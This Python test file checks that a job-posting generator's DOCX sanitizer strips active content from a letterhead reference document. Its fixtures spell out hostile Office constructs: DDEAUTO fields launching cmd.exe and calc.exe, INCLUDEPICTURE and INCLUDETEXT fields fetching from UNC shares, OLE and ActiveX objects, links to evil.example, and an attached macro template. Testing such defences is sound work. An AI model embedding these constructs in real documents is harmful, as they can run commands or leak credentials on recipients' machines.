"""Issue 28 item 3: active content in a reference DOCX never reaches a posting.

Each hostile reference is a real letterhead (header text, a logo, a PAGE
field, a style of its own, its own margins) made by python-docx, with one
kind of active content added by editing its parts. A posting is built on it,
the output DOCX is reopened, and none of the active content may be in it,
while every piece of the letterhead must be.
"""

from __future__ import annotations

import io
import re
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from docx.shared import Inches

from jdgen.cli import main
from jdgen.render.docx import docx_base
from jdgen.render.docxclean import FIELDS_KEPT, clean_reference
from test_batch import COMPANY

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMESPACES = (f'xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
              'xmlns:v="urn:schemas-microsoft-com:vml" '
              'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
              'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"')
HEADER_TEXT = "Northwind Traders Letterhead"
SECRET_WORDS = ("\\server", "server_share", "calc.exe", "cmd.exe", "evil", "payload", "secret")


@pytest.fixture(autouse=True)
def _fresh_bases():
    docx_base.cache_clear()
    yield
    docx_base.cache_clear()


def png(width: int = 4, height: int = 2) -> bytes:
    """A small valid PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    rows = b"".join(b"\x00" + b"\x80\x20\x20" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2,
                                                           0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def _field(instruction: str, result: str = "1") -> str:
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def letterhead() -> bytes:
    """A letterhead a recruiter could make: header text and logo, page numbers, a style."""
    from docx.enum.style import WD_STYLE_TYPE
    from docx.oxml import parse_xml

    document = docx.Document()
    section = document.sections[0]
    section.left_margin = section.right_margin = Inches(1.1)
    section.top_margin = Inches(0.9)
    style = document.styles.add_style("Letterhead Note", WD_STYLE_TYPE.PARAGRAPH)
    style.font.name = "Georgia"
    header = section.header.paragraphs[0]
    header.text = HEADER_TEXT
    header.add_run().add_picture(io.BytesIO(png()), width=Inches(0.5))
    footer = section.footer.paragraphs[0]
    for child in parse_xml(f'<w:p {NAMESPACES}><w:r><w:t xml:space="preserve">Page </w:t>'
                           f'</w:r>{_field("PAGE")}<w:fldSimple w:instr=" NUMPAGES \\* Arabic ">'
                           '<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'):
        footer._p.append(child)
    document.add_paragraph("Body text that no posting uses")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def edit(data: bytes, *, insert: dict[str, str] | None = None,
         add: dict[str, bytes] | None = None, rels: dict[str, str] | None = None,
         types: str = "") -> bytes:
    """``data`` with XML inserted before each part's last closing tag, parts added,
    relationships added to a part's rels, and content types added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    parts = {name: source.read(name) for name in source.namelist()}
    for name, xml in (insert or {}).items():
        text = parts[name].decode()
        cut = text.rindex("</")
        parts[name] = (text[:cut] + xml + text[cut:]).encode()
    for name, xml in (rels or {}).items():
        folder, _, leaf = name.rpartition("/")
        rels_name = f"{folder}/_rels/{leaf}.rels"
        text = parts.get(rels_name, b"").decode() or (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"></Relationships>')
        cut = text.rindex("</Relationships>")
        parts[rels_name] = (text[:cut] + xml + text[cut:]).encode()
    parts.update(add or {})
    if types:
        text = parts["[Content_Types].xml"].decode()
        parts["[Content_Types].xml"] = text.replace("</Types>", types + "</Types>").encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, value in parts.items():
            archive.writestr(name, value)
    return out.getvalue()


def rel(rid: str, kind: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL}/{kind}" Target="{target}"{mode}/>'


def paragraph(inner: str) -> str:
    """A header paragraph holding ``inner``, with the namespaces it may need."""
    return f'<w:p {NAMESPACES}>{inner}</w:p>'


HEADER = "word/header1.xml"
FOOTER = "word/footer1.xml"
OLE = ('<w:r><w:object><v:shape id="o1" style="width:10pt;height:10pt"/>'
       '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="o1" r:id="rId90"/></w:object></w:r>')
ACTIVEX = ('<w:r><w:object><w:control r:id="rId91" w:name="CheckBox1" '
           'w:shapeid="c1"/></w:object></w:r>')

# Each class, and our own second variant of it: the reference's edits, and words that
# the warning must hold.
HOSTILE: dict[str, tuple[dict[str, object], str]] = {
    "fldsimple-includepicture": (
        {"insert": {HEADER: paragraph('<w:fldSimple w:instr=" INCLUDEPICTURE '
                                      '&quot;\\\\\\\\server\\\\share\\\\logo.png&quot; \\d ">'
                                      '<w:r><w:t>logo</w:t></w:r></w:fldSimple>')}},
        "INCLUDEPICTURE"),
    "complex-includepicture-split-over-runs": (
        {"insert": {HEADER: paragraph(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText>INCLUDE</w:instrText></w:r>'
            '<w:r><w:instrText>PICTURE "\\\\server\\share\\a.png"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')}},
        "INCLUDEPICTURE"),
    "complex-ddeauto": (
        {"insert": {HEADER: paragraph(_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe '
                                             '"/k calc.exe"', "shown"))}},
        "DDEAUTO"),
    "fldsimple-ddeauto-lowercase": (
        {"insert": {FOOTER: paragraph('<w:fldSimple w:instr="ddeauto cmd.exe '
                                      '&quot;/c calc.exe&quot;"><w:r><w:t>x</w:t></w:r>'
                                      '</w:fldSimple>')}},
        "DDEAUTO"),
    "complex-includetext": (
        {"insert": {FOOTER: paragraph(_field('INCLUDETEXT "\\\\\\\\server\\\\share\\\\t.docx"',
                                             "included"))}},
        "INCLUDETEXT"),
    "nested-field-in-includetext": (
        {"insert": {FOOTER: paragraph(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText>INCLUDETEXT "</w:instrText></w:r>'
            + _field("MERGEFIELD server_share", "\\\\server\\share\\x")
            + '<w:r><w:instrText>"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>r</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')}},
        "INCLUDETEXT"),
    "page-field-with-a-hostile-switch": (
        {"insert": {FOOTER: paragraph(_field('PAGE \\d "\\\\server\\share"'))}},
        "PAGE"),
    "unclosed-field": (
        {"insert": {FOOTER: paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                                      '<w:r><w:instrText>INCLUDETEXT "\\\\server\\s"</w:instrText>'
                                      '</w:r>')}},
        "INCLUDETEXT"),
    "ole-object": (
        {"insert": {HEADER: paragraph(OLE)},
         "rels": {HEADER: rel("rId90", "oleObject", "embeddings/oleObject1.bin")},
         "add": {"word/embeddings/oleObject1.bin": b"payload OLE package"},
         "types": '<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
                  'officedocument.oleObject"/>'},
        "OLE object"),
    "ole-object-in-a-text-box": (
        {"insert": {HEADER: paragraph(
            '<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing/></mc:Choice>'
            f'<mc:Fallback>{OLE}</mc:Fallback></mc:AlternateContent></w:r>')},
         "rels": {HEADER: rel("rId90", "oleObject", "embeddings/oleObject1.bin")},
         "add": {"word/embeddings/oleObject1.bin": b"payload OLE package"}},
        "shape or text box"),
    "activex-control": (
        {"insert": {FOOTER: paragraph(ACTIVEX)},
         "rels": {FOOTER: rel("rId91", "control", "activeX/activeX1.xml")},
         "add": {"word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/'
                 b'office/2006/activeX" ax:classid="{8BD21D40}" ax:persistence="persistStorage"/>',
                 "word/activeX/activeX1.bin": b"payload"}},
        "ActiveX control"),
    "activex-in-a-content-control": (
        {"insert": {HEADER: f'<w:sdt {NAMESPACES}><w:sdtPr/><w:sdtContent>'
                            f'{paragraph(ACTIVEX)}</w:sdtContent></w:sdt>'},
         "rels": {HEADER: rel("rId91", "control", "activeX/activeX1.xml")},
         "add": {"word/activeX/activeX1.xml": b"<x/>"}},
        "ActiveX control"),
    "altchunk": (
        {"insert": {HEADER: f'<w:altChunk {NAMESPACES} r:id="rId92"/>'},
         "rels": {HEADER: rel("rId92", "aFChunk", "afchunk.mht")},
         "add": {"word/afchunk.mht": b"<html><img src='\\\\server\\share\\x.png'>payload</html>"},
         "types": '<Default Extension="mht" ContentType="message/rfc822"/>'},
        "altChunk"),
    "altchunk-in-a-table-cell": (
        {"insert": {FOOTER: f'<w:tbl {NAMESPACES}><w:tr><w:tc><w:altChunk r:id="rId92"/><w:p/>'
                            '</w:tc></w:tr></w:tbl>'},
         "rels": {FOOTER: rel("rId92", "aFChunk", "afchunk.html")},
         "add": {"word/afchunk.html": b"<html>payload</html>"}},
        "altChunk"),
    "external-hyperlink-in-header": (
        {"insert": {HEADER: paragraph('<w:hyperlink r:id="rId93"><w:r><w:t>visit</w:t></w:r>'
                                      '</w:hyperlink>')},
         "rels": {HEADER: rel("rId93", "hyperlink", "https://evil.example/track", True)}},
        "links"),
    "linked-picture-in-footer": (
        {"insert": {FOOTER: paragraph(
            '<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/'
            '2006/wordprocessingDrawing"><wp:extent cx="10" cy="10"/><wp:docPr id="9" name="p">'
            '<a:hlinkClick xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
            'r:id="rId94"/></wp:docPr><a:graphic xmlns:a="http://schemas.openxmlformats.org/'
            'drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
            'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
            'drawingml/2006/picture"><pic:blipFill><a:blip r:link="rId95"/></pic:blipFill>'
            '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')},
         "rels": {FOOTER: rel("rId94", "hyperlink", "https://evil.example/x", True)
                  + rel("rId95", "image", "media/evil.png")},
         "add": {"word/media/evil.png": png()}},
        "linked picture"),
    "attached-template": (
        {"insert": {"word/settings.xml": f'<w:attachedTemplate {NAMESPACES} r:id="rId96"/>'},
         "rels": {"word/settings.xml": rel("rId96", "attachedTemplate", "evil-macro.dotm")},
         "add": {"word/evil-macro.dotm": b"payload"}},
        "attached template"),
    "mail-merge-data-source": (
        {"insert": {"word/settings.xml": (
            f'<w:mailMerge {NAMESPACES}><w:mainDocumentType w:val="formLetters"/>'
            '<w:connectString w:val="Provider=evil;Data Source=\\\\server\\share\\db"/>'
            '<w:query w:val="SELECT * FROM secret"/><w:dataSource r:id="rId97"/></w:mailMerge>'
            '<w:updateFields w:val="true"/>')},
         "rels": {"word/settings.xml": rel("rId97", "mailMergeSource", "secret.csv")},
         "add": {"word/secret.csv": b"payload"}},
        "mail merge"),
    "custom-xml-and-web-settings": (
        {"rels": {"word/document.xml": rel("rId98", "customXml", "../customXml/item1.xml")},
         "add": {"customXml/item1.xml": b"<secret>payload</secret>"}},
        ""),
    "embedded-font": (
        {"insert": {"word/fontTable.xml": f'<w:font {NAMESPACES} w:name="Brand Sans">'
                                          '<w:embedRegular r:id="rId99" w:fontKey="{0000-'
                                          '0000}"/></w:font>'},
         "rels": {"word/fontTable.xml": rel("rId99", "font", "fonts/font1.odttf")},
         "add": {"word/fonts/font1.odttf": b"payload font"}},
        "embedded fonts"),
    "vml-picture-and-subdocument": (
        {"insert": {HEADER: paragraph('<w:r><w:pict><v:shape><v:imagedata r:id="rId9" '
                                      'o:href="\\\\server\\share\\x.png"/></v:shape></w:pict>'
                                      '</w:r><w:subDoc r:id="rId9"/>')}},
        "VML picture"),
}


def hostile(name: str) -> bytes:
    edits, _ = HOSTILE[name]
    return edit(letterhead(), **edits)  # type: ignore[arg-type]


def build(runner, tmp_path: Path, data: bytes, *extra: str):
    (tmp_path / "ref.docx").write_bytes(data)
    return runner.invoke(main, ["build", "coo", "--company", "Acme", "-f", "docx",
                                "--location", "Leeds", "--onsite", "--apply-url",
                                "https://example.com/apply", "--reports-to", "CEO",
                                "--reference-docx", "ref.docx",
                                *extra])


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


ALLOWED_PART = re.compile(
    r"(\[Content_Types\]\.xml|_rels/\.rels|docProps/core\.xml|word/(document|styles|numbering|"
    r"settings|fontTable|footnotes|endnotes|header\d+|footer\d+)\.xml|word/theme/theme\d+\.xml|"
    r"word/_rels/(document|header\d+|footer\d+)\.xml\.rels|word/media/[\w.-]+\.(png|jpeg))")
ALLOWED_RELATIONSHIPS = {"officeDocument", "core-properties", "styles", "numbering", "theme",
                         "fontTable", "settings", "header", "footer", "footnotes", "endnotes",
                         "image", "hyperlink"}


def assert_inert(data: bytes) -> None:
    """Nothing but the allow-list, no active field, no link but the posting's own."""
    from lxml import etree

    contents = parts(data)
    for name, value in contents.items():
        assert ALLOWED_PART.fullmatch(name), name
        lowered = value.lower()
        if not name.startswith("word/media/"):
            for word in SECRET_WORDS:
                assert word.encode() not in lowered, (name, word)
    for name, value in contents.items():
        if not name.endswith((".xml", ".rels")):
            continue
        root = etree.fromstring(value)
        for element in root.iter():
            if not isinstance(element.tag, str):
                continue
            local = etree.QName(element).localname
            assert local not in {"object", "control", "altChunk", "pict", "OLEObject",
                                 "AlternateContent", "subDoc", "attachedTemplate", "mailMerge",
                                 "embedRegular", "updateFields", "hlinkClick"}, (name, local)
            if local == "instrText":
                assert (element.text or "").split()[0] in FIELDS_KEPT, (name, element.text)
            if local == "fldSimple":
                assert element.get(f"{{{W}}}instr").split()[0] in FIELDS_KEPT
            if local == "blip":
                assert element.get(f"{{{R}}}link") is None
            if local == "Relationship":
                kind = element.get("Type").rpartition("/")[2]
                assert kind in ALLOWED_RELATIONSHIPS, (name, kind)
                if element.get("TargetMode") == "External":
                    assert name == "word/_rels/document.xml.rels" and kind == "hyperlink"
                    assert element.get("Target").startswith("https://example.com/")


def assert_letterhead(data: bytes) -> None:
    """The letterhead's text, logo, page fields, style and margins all survived."""
    document = docx.Document(io.BytesIO(data))
    section = document.sections[0]
    assert (section.left_margin, section.right_margin, section.top_margin) == (
        Inches(1.1), Inches(1.1), Inches(0.9))
    assert document.styles["Letterhead Note"].font.name == "Georgia"
    header = section.header._element
    assert HEADER_TEXT in "".join(t.text for t in header.iter(f"{{{W}}}t"))
    (blip,) = header.iter("{http://schemas.openxmlformats.org/drawingml/2006/main}blip")
    image = section.header.part.related_parts[blip.get(f"{{{R}}}embed")]
    assert image.blob == png()
    footer = section.footer._element
    assert [t.text.strip() for t in footer.iter(f"{{{W}}}instrText")][:1] == ["PAGE"]
    assert [f.get(f"{{{W}}}instr").strip() for f in footer.iter(f"{{{W}}}fldSimple")][:1] == [
        "NUMPAGES \\* Arabic"]


def test_the_plain_letterhead_is_kept_whole_and_says_nothing(runner, tmp_path):
    result = build(runner, tmp_path, letterhead())
    assert result.exit_code == 0, result.output
    assert "Warning" not in result.stderr
    data = (tmp_path / "acme-coo.docx").read_bytes()
    assert_inert(data)
    assert_letterhead(data)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_active_content_never_reaches_the_posting(runner, tmp_path, name):
    result = build(runner, tmp_path, hostile(name))
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    data = (tmp_path / "acme-coo.docx").read_bytes()
    assert_inert(data)
    assert_letterhead(data)
    warnings = [line for line in result.stderr.splitlines() if "reference DOCX" in line]
    words = HOSTILE[name][1]
    if words:
        assert len(warnings) == 1, result.stderr
        assert warnings[0].startswith("Warning: ref.docx: left out of the reference DOCX")
        assert words in warnings[0], warnings[0]
    else:  # data the posting never used goes without a word
        assert warnings == [], result.stderr


def test_every_class_at_once_in_one_reference(runner, tmp_path):
    data = letterhead()
    for name in sorted(HOSTILE):
        edits, _ = HOSTILE[name]
        if "rels" in edits or "add" in edits:
            continue  # relationship ids would collide; each is covered on its own
        data = edit(data, **edits)  # type: ignore[arg-type]
    result = build(runner, tmp_path, data)
    assert result.exit_code == 0, result.output
    output = (tmp_path / "acme-coo.docx").read_bytes()
    assert_inert(output)
    assert_letterhead(output)
    (line,) = [line for line in result.stderr.splitlines() if "reference DOCX" in line]
    for words in ("fields INCLUDEPICTURE, DDEAUTO, INCLUDETEXT, PAGE", "VML picture",
                  "subdocument"):
        assert words in line, line


def test_many_kinds_of_field_are_named_then_counted(runner, tmp_path):
    names = ["INCLUDEPICTURE", "INCLUDETEXT", "DDE", "DDEAUTO", "LINK", "HYPERLINK", "IMPORT"]
    fields = "".join(_field(f"{name} \\\\server\\share") for name in names)
    result = build(runner, tmp_path, edit(letterhead(), insert={HEADER: paragraph(fields)}))
    assert result.exit_code == 0, result.output
    assert_inert((tmp_path / "acme-coo.docx").read_bytes())
    assert "fields INCLUDEPICTURE, INCLUDETEXT, DDE, DDEAUTO, LINK and 2 more" in result.stderr


def test_a_field_s_shown_result_stays_as_plain_text(runner, tmp_path):
    result = build(runner, tmp_path, hostile("complex-includetext"))
    assert result.exit_code == 0, result.output
    document = docx.Document(tmp_path / "acme-coo.docx")
    footer = "".join(t.text for t in document.sections[0].footer._element.iter(f"{{{W}}}t"))
    assert "included" in footer


def test_macros_are_still_refused_outright(runner, tmp_path):
    data = edit(letterhead(), add={"word/vbaProject.bin": b"payload"})
    result = build(runner, tmp_path, data)
    assert result.exit_code == 1
    assert "Error: ref.docx: reference DOCX contains macros" in result.stderr
    assert not (tmp_path / "acme-coo.docx").exists()


def test_an_outside_attached_template_is_still_refused(runner, tmp_path):
    data = edit(letterhead(), insert={"word/settings.xml": f'<w:attachedTemplate {NAMESPACES} '
                                                           'r:id="rId96"/>'},
                rels={"word/settings.xml": rel("rId96", "attachedTemplate",
                                               "\\\\server\\share\\t.dotm", True)})
    result = build(runner, tmp_path, data)
    assert result.exit_code == 1
    assert "links to outside content (attachedTemplate)" in result.stderr


def test_a_header_picture_that_is_not_an_image_is_left_out(runner, tmp_path):
    source = parts(letterhead())
    (media,) = [name for name in source if name.startswith("word/media/")]
    data = edit(letterhead(), add={media: b"MZ payload that is no picture"})
    result = build(runner, tmp_path, data)
    assert result.exit_code == 0, result.output
    assert "a picture that is not a PNG or JPEG" in result.stderr
    output = (tmp_path / "acme-coo.docx").read_bytes()
    assert_inert(output)
    assert not [name for name in parts(output) if name.startswith("word/media/")]


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_batch_on_a_hostile_reference_builds_every_posting_inert(runner, tmp_path, jobs):
    (tmp_path / "ref.docx").write_bytes(hostile("complex-ddeauto"))
    (tmp_path / "acme.yaml").write_text(COMPANY)
    (tmp_path / "postings.yaml").write_text(
        "defaults:\n  company: acme.yaml\n  formats: [docx]\n  date: 2026-11-25\n"
        "postings:\n  - role: coo\n  - role: director-of-operations\n")
    result = runner.invoke(main, ["build", "--manifest", "postings.yaml", "--out", "site",
                                  "--reference-docx", "ref.docx", "--jobs", jobs])
    assert result.exit_code == 0, result.output
    built = sorted((tmp_path / "site").glob("*.docx"))
    assert len(built) == 2
    for path in built:
        assert_inert(path.read_bytes())
        assert_letterhead(path.read_bytes())


def test_cleaning_is_deterministic_and_idempotent():
    first = clean_reference(hostile("ole-object"))
    again = clean_reference(hostile("ole-object"))
    assert first == again
    twice = clean_reference(first.data)
    assert twice.dropped == ()
    assert parts(twice.data).keys() == parts(first.data).keys()


def test_the_warning_comes_back_with_a_warm_cache(runner, tmp_path):
    for _ in range(2):
        docx_base.cache_clear()
        result = build(runner, tmp_path, hostile("complex-ddeauto"))
        assert result.exit_code == 0, result.output
        assert "DDEAUTO" in result.stderr


def test_a_header_picture_whose_part_is_missing_is_left_out(runner, tmp_path):
    drawing = ('<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
               'drawingml/2006/wordprocessingDrawing"><wp:extent cx="10" cy="10"/>'
               '<wp:docPr id="9" name="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.'
               'org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
               'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/'
               'drawingml/2006/picture"><pic:blipFill><a:blip r:embed="rId77"/></pic:blipFill>'
               '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')
    data = edit(letterhead(), insert={HEADER: paragraph(drawing)},
                rels={HEADER: rel("rId77", "image", "media/missing.png")})
    result = build(runner, tmp_path, data)
    assert result.exit_code == 0, result.output
    assert "a picture that is not a PNG or JPEG" in result.stderr
    output = (tmp_path / "acme-coo.docx").read_bytes()
    assert_inert(output)
    assert_letterhead(output)
